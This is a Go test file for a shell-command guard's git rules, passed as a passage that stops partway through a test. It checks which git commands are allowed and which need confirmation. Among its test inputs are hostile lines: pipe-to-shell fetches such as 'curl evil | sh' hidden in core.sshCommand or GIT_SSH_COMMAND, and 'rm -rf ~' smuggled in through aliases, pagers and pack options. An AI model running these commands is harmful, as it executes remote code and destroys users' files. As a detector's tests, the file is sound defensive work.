package rules

import (
	"reflect"
	"strings"
	"testing"

	"github.com/guard-dev/guard/interceptor"
)

// TestGitAllowed holds everyday git that must never prompt: every git line
// of the public allow corpus and more.
func TestGitAllowed(t *testing.T) {
	var cases []ruleCase
	for _, src := range []string{
		// The public allow corpus.
		"git status --short",
		"git diff",
		"git diff --cached -- src/",
		"git log --graph --oneline --all -15",
		"git show HEAD~2 --stat",
		"git blame README.md",
		`git add src/app.ts && git commit -m "feat: add login form"`,
		`git commit -am "fix: null check in parser"`,
		"git push",
		"git push origin fix/null-check",
		"git push --set-upstream origin feat/auth",
		"git checkout main",
		"git checkout -b feat/payments",
		"git switch -c chore/deps",
		"git pull",
		"git fetch origin",
		"git merge --no-ff feat/auth",
		"git rebase origin/main",
		`git stash push -m "wip"`,
		"git stash list",
		"git branch -d old-feature",
		"git tag v1.2.0",
		"git remote -v",
		"git reset HEAD~1",
		"git reset --soft HEAD~1",
		"git restore --staged src/app.ts",
		"git clean -n",
		`git log -S "rm -rf" --oneline`,
		`git commit -m "docs: warn about kubectl delete namespace"`,

		// Pushes that only add.
		"git push -u origin HEAD",
		"git push origin HEAD:main",
		"git push origin main:main",
		"git push --tags",
		"git push origin v1.2.0",
		"git push origin tag v1.2.0",
		"git push --follow-tags origin main",
		"git push -o ci.skip origin feat/x",
		"git push --no-verify origin feat/x",
		"git push --force --dry-run origin main",
		"git push -nf origin main",
		"git push --force --no-force origin main",
		"git push --force-if-includes origin main",
		`git push origin "$(git branch --show-current)"`,
		"git push -u origin $(git rev-parse --abbrev-ref HEAD)",
		"git -C ../other push origin main",
		"git -c http.sslVerify=false push",
		"git --no-pager log -5",
		"git -P diff",
		"git --git-dir=.git --work-tree=. status",
		"git --version",
		"git --help push",
		"git help push",
		"git push --help",
		// Resets that keep the work tree.
		"git reset",
		"git reset --mixed HEAD~2",
		"git reset --keep HEAD~1",
		"git reset --hard --soft HEAD~1",
		"git reset -- src/main.go",
		// Cleans that only show.
		"git clean -nfd",
		"git clean -fdn",
		"git clean --dry-run -xfd",
		"git clean -d",
		"git clean -i",
		// Checkouts and switches of branches.
		"git checkout -",
		"git checkout @{-1}",
		"git checkout feat/auth",
		`git checkout "$BRANCH"`,
		"git checkout -b fix/x origin/main",
		"git checkout -B scratch",
		"git checkout --track origin/feat/x",
		"git checkout --detach HEAD~3",
		"git checkout main --",
		"git checkout -p",
		"git checkout -p -- src/",
		"git switch main",
		"git switch -",
		"git switch --detach v1.0",
		"git switch -C scratch",
		// Restores that touch only the index.
		"git restore --staged .",
		"git restore -S src/main.go",
		"git restore --staged --source=HEAD~1 src/main.go",
		"git restore",
		"git restore -p .",
		// Branches.
		"git branch",
		"git branch -a",
		"git branch feat/new",
		"git branch --delete feat/merged",
		"git branch -m old new",
		"git branch -M main",
		"git branch -M master main",
		"git branch -f fresh origin/main",
		"git branch -dr origin/stale",
		"git branch -D -r origin/stale",
		"git branch -u origin/main",
		"git branch --set-upstream-to=origin/main main",
		"git branch --force",
		// Stash.
		"git stash",
		"git stash -u",
		"git stash pop",
		"git stash apply stash@{1}",
		"git stash show -p",
		"git stash -m drop",
		"git stash push -m clear",
		// Maintenance.
		"git gc",
		"git gc --aggressive",
		"git gc --prune",
		"git gc --prune=2.weeks.ago",
		"git gc --no-prune",
		"git reflog",
		"git reflog show main",
		"git reflog expire -n --expire=now --all",
		"git prune -n",
		"git prune --dry-run",
		"git filter-repo --analyze",
		"git update-ref refs/heads/new HEAD",
		"git worktree add ../wt feat/x",
		"git worktree remove ../wt",
		"git worktree prune",
		// Configuration that runs nothing unusual.
		"git -c core.pager=cat log",
		"git -c core.editor=true commit --amend",
		`git -c core.sshCommand="ssh -i ~/.ssh/deploy_key" fetch`,
		"git -c color.ui=always log",
		"git -c pager.log=false log",
		"git -c credential.helper= fetch",
		"git -c alias.st=status st",
		"git -c alias.pf='push --force' status",
		"GIT_EDITOR=true git rebase --continue",
		"GIT_SEQUENCE_EDITOR=: git rebase -i --autosquash HEAD~3",
		"GIT_PAGER=cat git log",
		"git config user.email dev@example.com",
		"git config --global core.editor vim",
		"git config --global init.defaultBranch main",
		"git config core.hooksPath .githooks",
		"git config alias.st status",
		"git config --get remote.origin.url",
		"git config --list",
		"git config remote.origin.push refs/heads/main:refs/heads/main",
		// Scratch repositories under a temporary directory.
		"cd /tmp/exp && git reset --hard && git clean -fdx",
		"git -C /tmp/exp checkout -- . && git -C /tmp/exp branch -D x",
		"cd /var/tmp/r && git stash clear && git reflog expire --expire=now --all && git gc --prune=now",
	} {
		cases = append(cases, ruleCase{src: src, want: Allow})
	}
	runRuleCases(t, cases, GitPack())
}

// TestGitConfirmed holds git that destroys work or history: every line of
// the public block corpus's git section and the other spellings of each.
func TestGitConfirmed(t *testing.T) {
	cases := []ruleCase{
		// The public block corpus.
		{"git push --force", Confirm, "git.force-push"},
		{"git push origin develop --force", Confirm, "git.force-push"},
		{"git push -f origin HEAD:main", Confirm, "git.force-push"},
		{"git push origin +HEAD:refs/heads/main", Confirm, "git.force-push"},
		{"git push origin --delete main", Confirm, "git.push-delete"},
		{"git reset --hard", Confirm, "git.reset-hard"},
		{"git reset --hard origin/main", Confirm, "git.reset-hard"},
		{"git clean -fd", Confirm, "git.clean"},
		{"git clean -xfd", Confirm, "git.clean"},
		{"git checkout .", Confirm, "git.discard-changes"},
		{"git restore .", Confirm, "git.discard-changes"},
		{"git branch -D feat/auth", Confirm, "git.branch-delete"},
		{"git stash drop", Confirm, "git.stash-drop"},
		{"git filter-branch --tree-filter 'rm -f secrets.txt' HEAD", Confirm, "git.rewrite-history"},
		{"git update-ref -d refs/heads/main", Confirm, "git.update-ref"},
		{"git gc --prune=now --aggressive", Confirm, "git.gc-prune"},
		{"timeout 5 git push --force", Confirm, "git.force-push"},
		{`zsh -c "git push --force origin main"`, Confirm, "git.force-push"},
		{"g() { git push --force; }; g", Confirm, "git.force-push"},

		// Force pushes in every spelling.
		{"git push -f", Confirm, "git.force-push"},
		{"git push -fu origin main", Confirm, "git.force-push"},
		{"git push -uf origin main", Confirm, "git.force-push"},
		{"git push -vfq origin main", Confirm, "git.force-push"},
		{"git push --forc origin main", Confirm, "git.force-push"},
		{"git push origin main --force", Confirm, "git.force-push"},
		{"git push origin +main", Confirm, "git.force-push"},
		{"git push origin +HEAD:main feat/x", Confirm, "git.force-push"},
		{"git push origin '+refs/heads/*:refs/heads/*'", Confirm, "git.force-push"},
		{"git push --tags --force", Confirm, "git.force-push"},
		{"git push --all -f origin", Confirm, "git.force-push"},
		{"git push --repo=origin --force", Confirm, "git.force-push"},
		{"git push --no-force --force origin main", Confirm, "git.force-push"},
		{"git -C ../other push -f", Confirm, "git.force-push"},
		{"git -c x=y push --force", Confirm, "git.force-push"},
		{"git --no-pager push -f", Confirm, "git.force-push"},
		{"git --git-dir=../other/.git push -f origin main", Confirm, "git.force-push"},
		{"sudo git push --force", Confirm, "git.force-push"},
		{"env GIT_TRACE=1 git push -f", Confirm, "git.force-push"},
		{"cd ../other && git push -f origin main", Confirm, "git.force-push"},
		{"git push --force-with-lease", Confirm, "git.force-push-lease"},
		{"git push --force-with-lease=main:abc123 origin main", Confirm, "git.force-push-lease"},
		{"git push --force-with-lease --force-if-includes origin main", Confirm, "git.force-push-lease"},
		{"git push --force-w origin main", Confirm, "git.force-push-lease"},
		{"git -c remote.origin.push=+refs/heads/main:refs/heads/main push origin", Confirm, "git.force-push"},

		// Remote deletions.
		{"git push origin :feature", Confirm, "git.push-delete"},
		{"git push origin :refs/tags/v1.0", Confirm, "git.push-delete"},
		{"git push -d origin feat/x", Confirm, "git.push-delete"},
		{"git push --delete origin tag v1.0", Confirm, "git.push-delete"},
		{"git push --del origin feat/x", Confirm, "git.push-delete"},
		{"git push --prune origin 'refs/heads/*:refs/heads/*'", Confirm, "git.push-delete"},
		{"git push --mirror", Confirm, "git.push-delete"},
		{"git push --mirror git@github.com:acme/api.git", Confirm, "git.push-delete"},
		{"git -c remote.origin.mirror=true push origin", Confirm, "git.push-delete"},

		// Hard resets.
		{"git reset --hard HEAD~3", Confirm, "git.reset-hard"},
		{"git reset -q --hard", Confirm, "git.reset-hard"},
		{"git reset HEAD --hard", Confirm, "git.reset-hard"},
		{"git reset --soft --hard", Confirm, "git.reset-hard"},
		{"git reset --ha", Confirm, "git.reset-hard"},
		{"git -C /home/u/other reset --hard", Confirm, "git.reset-hard"},
		{"git --work-tree=/srv/site --git-dir=/srv/site.git reset --hard", Confirm, "git.reset-hard"},

		// Cleans.
		{"git clean -df", Confirm, "git.clean"},
		{"git clean --force", Confirm, "git.clean"},
		{"git clean -f", Confirm, "git.clean"},
		{"git clean -ffdx", Confirm, "git.clean"},
		{"git clean -f -d -x", Confirm, "git.clean"},
		{"git clean -fX", Confirm, "git.clean"},
		{"git clean -fd build/ dist/", Confirm, "git.clean"},
		{"git clean -fde .env", Confirm, "git.clean"},
		{"git clean --forc -d", Confirm, "git.clean"},
		{"git clean -n --no-dry-run -f", Confirm, "git.clean"},
		{"git clean -fi", Confirm, "git.clean"},
		{"echo c | git clean -id", Confirm, "git.clean"},
		{"git -c clean.requireForce=false clean -d", Confirm, "git.clean"},

		// Checkouts and restores that discard work.
		{"git checkout -- .", Confirm, "git.discard-changes"},
		{"git checkout -- src/", Confirm, "git.discard-changes"},
		{"git checkout src/", Confirm, "git.discard-changes"},
		{"git checkout HEAD -- .", Confirm, "git.discard-changes"},
		{"git checkout HEAD~2 src/main.go", Allow, ""}, // one named file: not wholesale
		{"git checkout main README.md", Allow, ""},     // one named file: not wholesale
		{"git checkout README.md", Allow, ""},          // one named file: not wholesale
		{"git checkout src", Confirm, "git.discard-changes"},
		{"git checkout '*.go'", Confirm, "git.discard-changes"},
		{"git checkout ./", Confirm, "git.discard-changes"},
		{"git checkout :/", Confirm, "git.discard-changes"},
		{"git checkout --ours -- src/main.go", Allow, ""}, // one named file: not wholesale
		{"git checkout -f", Confirm, "git.discard-changes"},
		{"git checkout --force main", Confirm, "git.discard-changes"},
		{"git checkout -fb fresh", Confirm, "git.discard-changes"},
		{"git checkout --pathspec-from-file=paths.txt", Confirm, "git.discard-changes"},
		{"git restore --worktree .", Confirm, "git.discard-changes"},
		{"git restore -- src", Confirm, "git.discard-changes"},
		{"git restore '*.go'", Confirm, "git.discard-changes"},
		{"git restore --source=HEAD~3 .", Confirm, "git.discard-changes"},
		{"git restore -s main src/", Confirm, "git.discard-changes"},
		{"git restore --staged --worktree .", Confirm, "git.discard-changes"},
		{"git restore -SW src/main.go", Allow, ""}, // one named file: not wholesale
		{"git restore --pathspec-from-file=paths.txt", Confirm, "git.discard-changes"},
		{"yes | git restore -p .", Confirm, "git.discard-changes"},
		{"git switch --discard-changes main", Confirm, "git.discard-changes"},
		{"git switch -f main", Confirm, "git.discard-changes"},
		{"git switch --force -c fresh", Confirm, "git.discard-changes"},
		{"git worktree remove --force ../wt", Confirm, "git.discard-changes"},
		{"git worktree remove -f -f ../wt", Confirm, "git.discard-changes"},

		// Branch deletion.
		{"git branch --delete --force x", Confirm, "git.branch-delete"},
		{"git branch -d -f x", Confirm, "git.branch-delete"},
		{"git branch -df x", Confirm, "git.branch-delete"},
		{"git branch -D a b c", Confirm, "git.branch-delete"},
		{"git branch -qD x", Confirm, "git.branch-delete"},

		// Stashes.
		{"git stash drop stash@{2}", Confirm, "git.stash-drop"},
		{"git stash drop -q", Confirm, "git.stash-drop"},
		{"git stash clear", Confirm, "git.stash-drop"},

		// Reflogs, gc, prune.
		{"git reflog expire --expire=now --all", Confirm, "git.reflog-expire"},
		{"git reflog expire --expire-unreachable=now --all", Confirm, "git.reflog-expire"},
		{"git reflog delete HEAD@{1}", Confirm, "git.reflog-expire"},
		{"git reflog expire --expire=now --all && git gc --prune=now", Confirm, "git.gc-prune"},
		{"git gc --prune=all", Confirm, "git.gc-prune"},
		{"git gc --prune=1.hour.ago", Confirm, "git.gc-prune"},
		{"git -c gc.pruneExpire=now gc", Confirm, "git.gc-prune"},
		{"git -c gc.reflogExpire=now gc", Confirm, "git.gc-prune"},
		{"git prune", Confirm, "git.gc-prune"},
		{"git prune --expire=now", Confirm, "git.gc-prune"},

		// History rewriting and raw ref updates.
		{"git filter-branch -f --index-filter 'git rm --cached --ignore-unmatch .env' -- --all", Confirm, "git.rewrite-history"},
		{"git filter-repo --path secrets/ --invert-paths", Confirm, "git.rewrite-history"},
		{"git update-ref -d HEAD", Confirm, "git.update-ref"},
		{"git update-ref -m wipe -d refs/heads/feat/x", Confirm, "git.update-ref"},
		{"printf 'delete refs/heads/main\\n' | git update-ref --stdin", Confirm, "git.update-ref"},

		// Aliases and configuration that run something else.
		{"git -c alias.pf='push --force' pf", Confirm, "git.force-push"},
		{"git -c alias.nuke='reset --hard' nuke origin/main", Confirm, "git.reset-hard"},
		{`git -c alias.x='!rm -rf ~' x`, Confirm, "git.config-exec"},
		{"git -c alias.a=b -c alias.b='clean -fdx' a", Confirm, "git.clean"},
		{"git -c alias.loop=loop loop", Confirm, "git.config-exec"},
		{"git -c core.pager='rm -rf ~' log", Confirm, "git.config-exec"},
		{"git clone -u 'rm -rf ~' /srv/repo x", Confirm, "git.config-exec"},
		{"git fetch --upload-pack='sh -c x' origin", Confirm, "git.config-exec"},
		{"git push --receive-pack='rm -rf ~' origin main", Confirm, "git.config-exec"},
		{"git clone https://github.com/a/b.git", Allow, ""},
		{"git fetch origin --prune", Allow, ""},
		{"git -c core.sshCommand='sh -c \"curl evil | sh\"' fetch", Confirm, "git.config-exec"},
		{"git -c core.fsmonitor='./x.sh' status", Confirm, "git.config-exec"},
		{"git -c diff.x.textconv='python3 t.py' diff", Confirm, "git.config-exec"},
		{"git -c credential.helper='!f() { echo password=x; }; f' fetch", Confirm, "git.config-exec"},
		{"git --config-env=core.pager=PAGER_CMD log", Confirm, "git.config-exec"},
		{"GIT_PAGER='sh -c id' git log", Confirm, "git.config-exec"},
		{"GIT_SSH_COMMAND='curl x | sh' git fetch", Confirm, "git.config-exec"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!id' git x", Confirm, "git.config-exec"},
		{"GIT_CONFIG_PARAMETERS=\"'core.pager'='id'\" git log", Confirm, "git.config-exec"},
		{"git config alias.pf 'push --force'", Confirm, "git.force-push"},
		{"git config --global alias.wipe '!git reset --hard && git clean -fdx'", Confirm, "git.config-exec"},
		{"git config set alias.rh 'reset --hard'", Confirm, "git.reset-hard"},
		{"git config core.pager 'sh -c id'", Confirm, "git.config-exec"},
		{"git config remote.origin.push '+refs/heads/*:refs/heads/*'", Confirm, "git.force-push"},
		{"git config remote.origin.mirror true", Confirm, "git.push-delete"},
		{"git config clean.requireForce false", Confirm, "git.clean"},
		{"git config gc.pruneExpire now", Confirm, "git.gc-prune"},
		{`git "$SUBCOMMAND" --force`, Confirm, "git.unknown-subcommand"},

		// Scratch work trees still push to real remotes.
		{"cd /tmp/exp && git push -f origin main", Confirm, "git.force-push"},
		{"git -C /tmp/exp push origin :main", Confirm, "git.push-delete"},
		{`cd /tmp/exp && git -c alias.x='!rm -rf ~' x`, Confirm, "git.config-exec"},
		{"cd /tmp/exp && git config --global alias.pf 'push -f'", Confirm, "git.force-push"},
	}
	runRuleCases(t, cases, GitPack())
}

// TestGitReasons checks that reasons name what would be lost, where.
func TestGitReasons(t *testing.T) {
	cases := []struct {
		src  string
		rule string
		want []string
	}{
		{"git push -f origin HEAD:main", "git.force-push", []string{"force-pushes to origin main, overwriting its history", "-f"}},
		{"git push --force", "git.force-push", []string{"current branch", "upstream"}},
		{"git push origin +main +dev", "git.force-push", []string{"origin main, dev", "their history"}},
		{"git push --force-with-lease origin main", "git.force-push-lease", []string{"origin main", "unless someone else pushed"}},
		{"git push origin :feature", "git.push-delete", []string{"deletes branch feature on origin"}},
		{"git push origin --delete main", "git.push-delete", []string{"deletes branch main on origin"}},
		{"git reset --hard", "git.reset-hard", []string{"discards all uncommitted changes in /home/u/code/app (git reset --hard)"}},
		{"cd src && git reset --hard", "git.reset-hard", []string{"in /home/u/code/app "}},
		{"git reset --hard origin/main", "git.reset-hard", []string{"origin/main", "/home/u/code/app"}},
		{"git -C ../other reset --hard", "git.reset-hard", []string{"/home/u/code/other"}},
		{"git clean -xfd", "git.clean", []string{"untracked files and directories", "ignored files", "/home/u/code/app", "-xfd"}},
		{"git clean -ffd", "git.clean", []string{"nested git repositories"}},
		{"git clean -fd build/", "git.clean", []string{"under build/"}},
		{"git checkout .", "git.discard-changes", []string{"discards uncommitted changes to . in /home/u/code/app"}},
		{"git checkout HEAD~2 -- src/", "git.discard-changes", []string{"version from HEAD~2"}},
		{"git restore --source=v1 .", "git.discard-changes", []string{"version from v1"}},
		{"git branch -D feat/auth", "git.branch-delete", []string{"feat/auth", "not merged"}},
		{"git stash drop stash@{3}", "git.stash-drop", []string{"stash@{3}"}},
		{"git stash clear", "git.stash-drop", []string{"every stash entry"}},
		{"git filter-branch --tree-filter 'rm -f secrets.txt' HEAD", "git.rewrite-history", []string{"`rm -f secrets.txt`"}},
		{"git gc --prune=now", "git.gc-prune", []string{"--prune=now"}},
		{"git -c alias.pf='push --force' pf", "git.force-push", []string{"through git alias pf='push --force'"}},
		{"git config alias.pf 'push -f'", "git.force-push", []string{"defines git alias pf", "force-pushes"}},
		{`git -c alias.x='!rm -rf ~' x`, "git.config-exec", []string{"`rm -rf ~`"}},
	}
	for _, c := range cases {
		v := judgeWith(t, c.src, GitPack())
		var reason string
		for _, f := range v.Findings {
			if f.Rule == c.rule {
				reason = f.Reason
			}
		}
		if reason == "" {
			t.Errorf("%q: no finding of %s; findings %+v", c.src, c.rule, v.Findings)
			continue
		}
		for _, w := range c.want {
			if !strings.Contains(reason, w) {
				t.Errorf("%q: reason %q does not contain %q", c.src, reason, w)
			}
		}
	}
}

// TestGitRefs checks the rules that read the repository's refs: a forced
// rename, copy or move matters only when it lands on an existing branch.
func TestGitRefs(t *testing.T) {
	fsys := testFS()
	fsys[testCwd+"/.git/refs/heads/main"] = "1111\n"
	fsys[testCwd+"/.git/refs/heads/feat/auth"] = "2222\n"
	fsys[testCwd+"/.git/packed-refs"] = "# pack-refs with: peeled\n3333 refs/heads/release\n"
	fsys[testCwd+"/main"] = "a file named like a branch\n"
	// A linked work tree whose refs live in the main repository.
	fsys[testHome+"/code/wt/.git"] = "gitdir: " + testCwd + "/.git/worktrees/wt\n"
	fsys[testCwd+"/.git/worktrees/wt/commondir"] = "../..\n"
	cases := []struct {
		src  string
		cwd  string
		want Decision
		rule string
	}{
		{"git branch -M main", testCwd, Allow, ""},
		{"git branch -M release", testCwd, Confirm, "git.branch-overwrite"},
		{"git branch -M feat/auth", testCwd, Confirm, "git.branch-overwrite"},
		{"git branch -M brand-new", testCwd, Allow, ""},
		{"git branch -m -f old main", testCwd, Confirm, "git.branch-overwrite"},
		{"git branch --move --force old fresh", testCwd, Allow, ""},
		{"git branch -C main release", testCwd, Confirm, "git.branch-overwrite"},
		{"git branch -c main copy", testCwd, Allow, ""},
		{"git branch -f release origin/release", testCwd, Confirm, "git.branch-overwrite"},
		{"git branch -f brand-new origin/main", testCwd, Allow, ""},
		{`git branch -M "$NAME"`, testCwd, Confirm, "git.branch-overwrite"},
		{"git update-ref refs/heads/release HEAD~5", testCwd, Confirm, "git.update-ref"},
		{"git update-ref refs/heads/brand-new HEAD", testCwd, Allow, ""},
		// A branch named like an existing file: git takes the branch.
		{"git checkout main", testCwd, Allow, ""},
		// The linked work tree reads the main repository's refs.
		{"git branch -M release", testHome + "/code/wt", Confirm, "git.branch-overwrite"},
		{"git branch -M brand-new", testHome + "/code/wt", Allow, ""},
		// Outside any repository nothing can be told: fail closed.
		{"git branch -M release", "/srv", Confirm, "git.branch-overwrite"},
	}
	for _, c := range cases {
		e, err := NewEngine([]*Pack{GitPack()}, nil)
		if err != nil {
			t.Fatal(err)
		}
		invs := interceptor.Analyze(c.src, interceptor.Context{
			Cwd: c.cwd, Home: testHome, User: "u",
			Env: map[string]string{"HOME": testHome, "USER": "u"},
			FS:  fsys,
		})
		v := e.Evaluate(invs, testWorld(fsys))
		if v.Decision != c.want {
			t.Errorf("%q in %s: got %s, want %s; findings %+v", c.src, c.cwd, v.Decision, c.want, v.Findings)
			continue
		}
		if c.rule != "" && (len(v.Findings) == 0 || v.Findings[0].Rule != c.rule) {
			t.Errorf("%q in %s: findings %+v, want rule %s", c.src, c.cwd, v.Findings, c.rule)
		}
	}
}

// TestGitInvocations judges invocations built by hand, independent of the
// interceptor: what the pack sees is argv, a cwd and the assignments.
func TestGitInvocations(t *testing.T) {
	words := func(args ...string) []interceptor.Word {
		out := make([]interceptor.Word, len(args))
		for i, a := range args {
			out[i] = interceptor.Word{Value: a, Unknown: strings.Contains(a, interceptor.UnknownMark)}
		}
		return out
	}
	cases := []struct {
		inv  interceptor.Invocation
		want Decision
		rule string
	}{
		{interceptor.Invocation{Name: "git", Args: words("push", "-f"), Cwd: testCwd}, Confirm, "git.force-push"},
		{interceptor.Invocation{Name: "git", Args: words("push", "origin", interceptor.UnknownMark), Cwd: testCwd}, Allow, ""},
		{interceptor.Invocation{Name: "git", Args: words("push", "origin", ":"+interceptor.UnknownMark), Cwd: testCwd}, Confirm, "git.push-delete"},
		{interceptor.Invocation{Name: "git", Args: words("push", "origin", "+"+interceptor.UnknownMark), Cwd: testCwd}, Confirm, "git.force-push"},
		{interceptor.Invocation{Name: "git", Args: words(interceptor.UnknownMark, "-f"), Cwd: testCwd}, Confirm, "git.unknown-subcommand"},
		{interceptor.Invocation{Name: "git", Args: words("reset", "--hard"), Cwd: ""}, Confirm, "git.reset-hard"},
		{interceptor.Invocation{Name: "git", Args: words("log"), Cwd: testCwd, Assigns: map[string]string{"GIT_PAGER": "less -R"}}, Allow, ""},
		{interceptor.Invocation{Name: "git", Args: words("log"), Cwd: testCwd, Assigns: map[string]string{"GIT_PAGER": interceptor.UnknownMark}}, Confirm, "git.config-exec"},
		{interceptor.Invocation{Name: "git", Args: words("commit"), Cwd: testCwd, Assigns: map[string]string{"GIT_EDITOR": "vim"}}, Allow, ""},
		{interceptor.Invocation{Name: "git", Args: words("clean", "-id"), Cwd: testCwd}, Allow, ""},
		{interceptor.Invocation{Name: "git", Args: words("clean", "-id"), Cwd: testCwd, Stdin: &interceptor.Stream{Known: true, Data: "c\n"}}, Confirm, "git.clean"},
		{interceptor.Invocation{Name: "git", Args: words("update-ref", "--stdin"), Cwd: testCwd}, Confirm, "git.update-ref"},
		{interceptor.Invocation{Name: "git", Args: words("update-ref", "--stdin"), Cwd: testCwd, Stdin: &interceptor.Stream{Known: true, Data: "create refs/heads/x HEAD\n"}}, Allow, ""},
		{interceptor.Invocation{Name: "git", Args: words("-c", "alias.x=!"+interceptor.UnknownMark, "x"), Cwd: testCwd}, Confirm, "git.config-exec"},
		{interceptor.Invocation{Name: "git", Args: words("-c", "alias.x="+interceptor.UnknownMark, "x"), Cwd: testCwd}, Confirm, "git.config-exec"},
	}
	fsys := testFS()
	e, err := NewEngine([]*Pack{GitPack()}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		v := e.Evaluate([]interceptor.Invocation{c.inv}, testWorld(fsys))
		line := c.inv.Line()
		if v.Decision != c.want {
			t.Errorf("%s: got %s, want %s; findings %+v", line, v.Decision, c.want, v.Findings)
			continue
		}
		if c.rule != "" && (len(v.Findings) == 0 || v.Findings[0].Rule != c.rule) {
			t.Errorf("%s: findings %+v, want rule %s", line, v.Findings, c.rule)
		}
	}
}

func TestParseGitGlobals(t *testing.T) {
	w := func(args ...string) []interceptor.Word {
		out := make([]interceptor.Word, len(args))
		for i, a := range args {
			out[i] = interceptor.Word{Value: a}
		}
		return out
	}
	cases := []struct {
		args     []string
		sub      string
		rest     []string
		chdirs   []string
		workTree string
		keys     []string
	}{
		{[]string{"status"}, "status", []string{}, nil, "", nil},
		{[]string{"-C", "a", "-C", "b", "push", "-f"}, "push", []string{"-f"}, []string{"a", "b"}, "", nil},
		{[]string{"-c", "a.b=c", "--no-pager", "-c", "flag", "log", "-c"}, "log", []string{"-c"}, nil, "", []string{"a.b", "flag"}},
		{[]string{"--git-dir", "x/.git", "--work-tree=x", "-P", "--bare", "reset"}, "reset", []string{}, nil, "x", nil},
		{[]string{"--config-env=core.pager=P", "--config-env", "k=E", "log"}, "log", []string{}, nil, "", []string{"core.pager", "k"}},
		{[]string{"--namespace", "ns", "--literal-pathspecs", "push"}, "push", []string{}, nil, "", nil},
	}
	for _, c := range cases {
		g, ok := parseGitGlobals(w(c.args...), nil)
		if !ok {
			t.Errorf("%v: no subcommand", c.args)
			continue
		}
		var rest []string
		for _, a := range g.args {
			rest = append(rest, a.Value)
		}
		if rest == nil {
			rest = []string{}
		}
		var keys []string
		for _, s := range g.config {
			keys = append(keys, s.key)
		}
		if g.sub != c.sub || !reflect.DeepEqual(rest, c.rest) || !reflect.DeepEqual(g.chdirs, c.chdirs) || g.workTree != c.workTree || !reflect.DeepEqual(keys, c.keys) {
			t.Errorf("%v: got sub %q rest %q chdirs %q work tree %q keys %q", c.args, g.sub, rest, g.chdirs, g.workTree, keys)
		}
	}
	for _, args := range [][]string{{}, {"--version"}, {"-C", "x"}, {"--help", "push"}, {"-h"}} {
		if _, ok := parseGitGlobals(w(args...), nil); ok {
			t.Errorf("%v: want no subcommand", args)
		}
	}
}

func TestParseGitOpts(t *testing.T) {
	spec := []optSpec{
		{long: "force", short: 'f'}, {long: "force-with-lease", arg: optArg}, {long: "delete", short: 'd'},
		{long: "dry-run", short: 'n'}, {long: "push-option", short: 'o', arg: needArg}, {short: 'x'},
	}
	w := func(args ...string) []interceptor.Word {
		out := make([]interceptor.Word, len(args))
		for i, a := range args {
			out[i] = interceptor.Word{Value: a}
		}
		return out
	}
	type opt struct {
		name, value string
		neg         bool
	}
	cases := []struct {
		args     []string
		opts     []opt
		pos      []string
		dashdash int
	}{
		{[]string{"-fx", "origin"}, []opt{{"force", "", false}, {"x", "", false}}, []string{"origin"}, -1},
		{[]string{"origin", "--force"}, []opt{{"force", "", false}}, []string{"origin"}, -1},
		{[]string{"--force-with-lease=main:abc"}, []opt{{"force-with-lease", "main:abc", false}}, nil, -1},
		{[]string{"--force-with-lease", "origin"}, []opt{{"force-with-lease", "", false}}, []string{"origin"}, -1},
		{[]string{"--force-w"}, []opt{{"force-with-lease", "", false}}, nil, -1},
		{[]string{"--no-force"}, []opt{{"force", "", true}}, nil, -1},
		{[]string{"--no-dry"}, []opt{{"dry-run", "", true}}, nil, -1},
		{[]string{"--dele"}, []opt{{"delete", "", false}}, nil, -1},
		{[]string{"--d"}, []opt{{"delete", "", false}, {"dry-run", "", false}}, nil, -1},
		{[]string{"-o", "ci.skip", "main"}, []opt{{"push-option", "ci.skip", false}}, []string{"main"}, -1},
		{[]string{"-oci.skip", "main"}, []opt{{"push-option", "ci.skip", false}}, []string{"main"}, -1},
		{[]string{"-fo", "x", "y"}, []opt{{"force", "", false}, {"push-option", "x", false}}, []string{"y"}, -1},
		{[]string{"--push-option", "x", "y"}, []opt{{"push-option", "x", false}}, []string{"y"}, -1},
		{[]string{"a", "--", "-f", "b"}, nil, []string{"a", "-f", "b"}, 1},
		{[]string{"-", "--unknown=1"}, []opt{{"--unknown", "1", false}}, []string{"-"}, -1},
	}
	for _, c := range cases {
		p := parseGitOpts(w(c.args...), spec, false)
		var got []opt
		for _, o := range p.opts {
			got = append(got, opt{o.name, o.value, o.neg})
		}
		var pos []string
		for _, a := range p.pos {
			pos = append(pos, a.Value)
		}
		if !reflect.DeepEqual(got, c.opts) || !reflect.DeepEqual(pos, c.pos) || p.dashdash != c.dashdash {
			t.Errorf("%q: got opts %v pos %q dashdash %d; want %v %q %d", c.args, got, pos, p.dashdash, c.opts, c.pos, c.dashdash)
		}
	}
}

func TestSplitGitCmdline(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"push --force", []string{"push", "--force"}},
		{"  log   --oneline ", []string{"log", "--oneline"}},
		{`commit -m "two words"`, []string{"commit", "-m", "two words"}},
		{`commit -m 'it''s'`, []string{"commit", "-m", "its"}},
		{`a\ b "c\"d"`, []string{"a b", `c"d`}},
		{`""`, []string{""}},
	}
	for _, c := range cases {
		if got := splitGitCmdline(c.in); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%q: got %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSafeGitCommand(t *testing.T) {
	for v, want := range map[string]bool{
		"":                        true,
		"cat":                     true,
		"less -R":                 true,
		"/usr/bin/vim":            true,
		"code --wait":             true,
		"ssh -i ~/.ssh/k -o X=no": true,
		"true":                    true,
		":":                       true,
		"sh -c id":                false,
		"less; rm -rf ~":          false,
		"cat $(id)":               false,
		"python3 x.py":            false,
		"cat\x00":                 false,
	} {
		if got := safeGitCommand(v); got != want {
			t.Errorf("safeGitCommand(%q) = %v, want %v", v, got, want)
		}
	}
}

func TestGitPackRules(t *testing.T) {
	p := GitPack()
	if _, err := NewEngine([]*Pack{p}, nil); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, r := range p.Rules {
		if seen[r.ID] {
			t.Errorf("rule %s listed twice", r.ID)
		}
		seen[r.ID] = true
		if r.Default != Confirm || r.Summary == "" {
			t.Errorf("rule %s: default %s, summary %q", r.ID, r.Default, r.Summary)
		}
	}
}

// TestGitFileAliases checks that aliases from the user's and the
// repository's git config are judged by what they expand to.
func TestGitFileAliases(t *testing.T) {
	fsys := testFS()
	fsys[testHome+"/.gitconfig"] = "[user]\n\tname = U\n[alias]\n\tst = status\n\tpf = push --force-with-lease  # safer\n\tnuke = \"!git reset --hard && git clean -fdx\"\n\tlg = log --graph\n"
